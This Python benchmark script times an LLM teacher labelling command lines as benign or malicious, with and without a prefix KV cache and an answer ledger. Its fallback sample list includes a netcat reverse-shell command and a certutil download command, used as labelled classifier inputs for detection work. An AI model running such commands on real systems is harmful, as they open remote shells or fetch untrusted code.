"""LLM teacher call cost: in-process llama.cpp with the shared-prefix KV cache vs without it, and a re-run
through the teacher-call ledger (all answers stored), side by side in one process on the same inputs.

Usage:  python benchmarks/llm_teacher_calls.py [--model qwen2.5-coder-0.5b] [--n 16] [--threads 2]

Inputs are command lines from the data folder's ``cmdline/commands.jsonl.gz`` (falls back to a built-in
list); the prompt is the teacher's few-shot prompt (3 shots per class). Needs the ``llm`` extra.
"""

from __future__ import annotations

import argparse
import gzip
import json
import random
import tempfile
import time
from pathlib import Path

from distilsec.errors import DataError
from distilsec.teachers.ledger import TeacherLedger
from distilsec.teachers.llm.llamacpp import LlamaCppBackend
from distilsec.teachers.llm.teacher import LLMTeacher

FALLBACK = ["git status", "ls -la /tmp", "nc -e /bin/sh 10.0.0.2 9001", "certutil -urlcache -f http://x/a a"]


def _inputs(n: int) -> tuple[list[str], list[str], list[str]]:
    from distilsec.data.paths import resolve_data_dir

    try:
        path = resolve_data_dir(required=("cmdline",)) / "cmdline" / "commands.jsonl.gz"
        with gzip.open(path, "rt", encoding="utf-8") as fh:
            rows = [json.loads(line) for _, line in zip(range(20000), fh, strict=False)]
    except (OSError, ValueError, DataError):  # no data folder: built-in inputs
        rows = [{"text": t, "label": "benign" if i % 2 == 0 else "malicious"} for i, t in enumerate(FALLBACK * 50)]
    rows = [r for r in rows if r.get("text") and len(r["text"]) < 200]
    random.Random(0).shuffle(rows)
    shots = [r for r in rows if r["label"] == "benign"][:40] + [r for r in rows if r["label"] == "malicious"][:40]
    queries = [r["text"] for r in rows[-n:]]  # shots are drawn from the front of the shuffled rows
    return [r["text"] for r in shots], [r["label"] for r in shots], queries


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--model", default="qwen2.5-coder-0.5b")
    ap.add_argument("--n", type=int, default=16)
    ap.add_argument("--threads", type=int, default=2)
    args = ap.parse_args()
    shot_texts, shot_y, queries = _inputs(args.n)
    rows = []
    with tempfile.TemporaryDirectory() as tmp:
        ledger_path = str(Path(tmp) / "ledger.sqlite")
        for reuse in (False, True):
            backend = LlamaCppBackend(args.model, n_threads=args.threads, reuse_prefix=reuse)
            teacher = LLMTeacher(model=args.model, calibration="none", ledger=None, progress=False)
            teacher.connect(backend).fit(shot_texts, shot_y)
            tmpl, shots = teacher.template(), teacher._shot_pairs()
            backend.label_token_ids(tmpl.label_words)
            backend.label(tmpl.messages("warm-up", shots), tmpl.label_words)
            start = time.perf_counter()
            tokens = 0
            for q in queries:
                tokens += backend.label(tmpl.messages(q, shots), tmpl.label_words).prompt_tokens
            sec = time.perf_counter() - start
            rows.append(
                {
                    "mode": "prefix KV cache" if reuse else "no prefix cache (baseline)",
                    "calls": len(queries),
                    "s_per_call": sec / len(queries),
                    "prompt_tokens_per_call": tokens / len(queries),
                }
            )
            if reuse:  # the same teacher through a ledger: first pass calls, second pass reads
                teacher.ledger = ledger_path
                teacher.ledger_ = TeacherLedger(ledger_path)
                for label in ("ledger, first pass", "ledger, re-run (all stored)"):
                    start = time.perf_counter()
                    teacher.predict_proba(queries)
                    sec = time.perf_counter() - start
                    rows.append(
                        {
                            "mode": label,
                            "calls": teacher.last_run_.calls,
                            "s_per_call": sec / len(queries),
                            "prompt_tokens_per_call": None,
                        }
                    )
            backend.close()
    print("| mode | calls made | s per input | prompt tokens per call |")
    print("|---|---|---|---|")
    for r in rows:
        tok = "" if r["prompt_tokens_per_call"] is None else f"{r['prompt_tokens_per_call']:.0f}"
        print(f"| {r['mode']} | {r['calls']} | {r['s_per_call']:.3f} | {tok} |")


if __name__ == "__main__":
    main()
